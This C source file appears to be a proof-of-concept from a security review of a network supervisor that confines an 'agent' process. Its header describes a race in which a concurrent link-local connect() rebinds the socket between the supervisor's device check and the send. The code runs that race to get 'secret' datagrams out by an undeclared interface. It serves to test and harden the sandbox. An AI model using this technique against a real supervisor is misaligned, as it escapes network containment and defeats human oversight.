/* ha17-scoped: hostile review h-attack17 (against main d07b047). The
 * device lock (call.c device_lock) keeps IPv6 disconnects out of an IPv6
 * datagram send's window between the judgement of its socket's device
 * (sv_call_device_last) and the send. A connect is not kept out: a
 * connect() to a scoped IPv6 address (link-local, or link-scope multicast),
 * which a rule naming a link-local address allows, binds the socket to the
 * scope's device itself (__ip6_datagram_connect writes sk_bound_dev_if),
 * and the supervisor performs it on another thread whenever the agent
 * asks. The device judged for the send is then not the one it leaves by:
 * a send to the declared ::ffff:DEST goes out of IFNAME, where IPv4 takes
 * DEST for on-link (review h-attack12) and the host holding it there gets
 * the datagram. The check after the send (sv_call_device_changed) sees the
 * new device and makes it a mechanism failure: after the bytes left.
 * Before the connect, the supervisor's own sv_device_disconnect_before_scoped
 * disconnects a connected datagram socket outside the lock too.
 *
 *   seam   one connect(LL%IFNAME), and 50 ms later (HA17_DELAY_US) one
 *          sendto(::ffff:DEST): with the test build's device_window seam
 *          (300 ms between judging the device and acting, for every call)
 *          the connect lands in the send's window every time.
 *   race   the unmodified build: a second thread connects the socket to
 *          LL%IFNAME and disconnects it (connect(AF_UNSPEC), which waits
 *          for the sends as designed), over and over, while the main
 *          thread sends to ::ffff:DEST N times (HA17_ITER, default
 *          20000), whatever each answers: EPERM is the mechanism failure
 *          of a send whose socket's device changed (out of IFNAME when the
 *          connect came before the send, by the declared route when it
 *          came after: the sinks tell), EACCES a send whose judgement came
 *          after the connect (output-interface). Counted.
 *
 *   ha17-scoped MODE DEST:PORT LLADDR:PORT IFNAME   (LLADDR:PORT: fe80::1:9999)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int sock;
static struct sockaddr_in6 ll = {.sin6_family = AF_INET6};
static volatile int stop, conn_rc = 1, conn_err;
static volatile long connects, conn_fail;

static int parse(const char *arg, const char *prefix, struct sockaddr_in6 *sa)
{
	char host[80], *colon;

	snprintf(host, sizeof(host), "%s%s", prefix, arg);
	colon = strrchr(host, ':');
	if (!colon)
		return -1;
	*colon = '\0';
	sa->sin6_family = AF_INET6;
	sa->sin6_port = htons((unsigned short)atoi(colon + 1));
	return inet_pton(AF_INET6, host, &sa->sin6_addr) == 1 ? 0 : -1;
}

static void *connector(void *arg)
{
	struct sockaddr unspec = {.sa_family = AF_UNSPEC};
	int once = arg != NULL;

	do {
		if (connect(sock, (struct sockaddr *)&ll, sizeof(ll)) == 0)
			connects++;
		else {
			conn_fail++;
			conn_err = errno;
		}
		if (once)
			break;
		(void)connect(sock, &unspec, sizeof(unspec));
	} while (!stop);
	return NULL;
}

static int device(void)
{
	int idx = -1;
	socklen_t l = sizeof(idx);

	getsockopt(sock, SOL_SOCKET, SO_BINDTOIFINDEX, &idx, &l);
	return idx;
}

int main(int argc, char **argv)
{
	struct sockaddr_in6 dst, any = {.sin6_family = AF_INET6};
	long iter = getenv("HA17_ITER") ? atol(getenv("HA17_ITER")) : 20000, denied = 0, sent = 0,
	     other = 0, i;
	char msg[64];
	pthread_t t;
	int seam;

	if (argc != 5 || parse(argv[2], "::ffff:", &dst) || parse(argv[3], "", &ll) ||
	    !(ll.sin6_scope_id = if_nametoindex(argv[4]))) {
		fprintf(stderr, "usage: ha17-scoped seam|race DEST:PORT LLADDR:PORT IFNAME\n");
		return 2;
	}
	seam = strcmp(argv[1], "seam") == 0;
	sock = socket(AF_INET6, SOCK_DGRAM, 0);
	/* The socket has its port from the start: no give_port, no failed
	 * bind, no disconnect of the agent's own in the window. */
	if (sock < 0 || bind(sock, (struct sockaddr *)&any, sizeof(any)) != 0) {
		perror("agent: socket");
		return 2;
	}
	pthread_create(&t, NULL, connector, seam ? (void *)1 : NULL);
	if (seam) {
		usleep((useconds_t)(getenv("HA17_DELAY_US") ? atoi(getenv("HA17_DELAY_US")) : 50000));
		iter = 1;
	}
	for (i = 0; i < iter; i++) {
		long rc;

		snprintf(msg, sizeof(msg), "ha17-secret %s #%ld", argv[1], i);
		rc = sendto(sock, msg, strlen(msg), 0, (struct sockaddr *)&dst, sizeof(dst));
		if (rc >= 0)
			sent++;
		else if (errno == EACCES)
			denied++;
		else {
			other++;
			if (other <= 3)
				printf("agent: send #%ld to %s: %s (device now %d)\n", i, argv[2],
				       strerror(errno), device());
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("agent: %s: %ld sends answered, %ld denied, %ld other; connects to %s%%%s: %ld "
	       "ok, %ld failed (%s)\n",
	       argv[1], sent, denied, other, argv[3], argv[4], connects, conn_fail,
	       conn_fail ? strerror(conn_err) : "-");
	return 0;
}
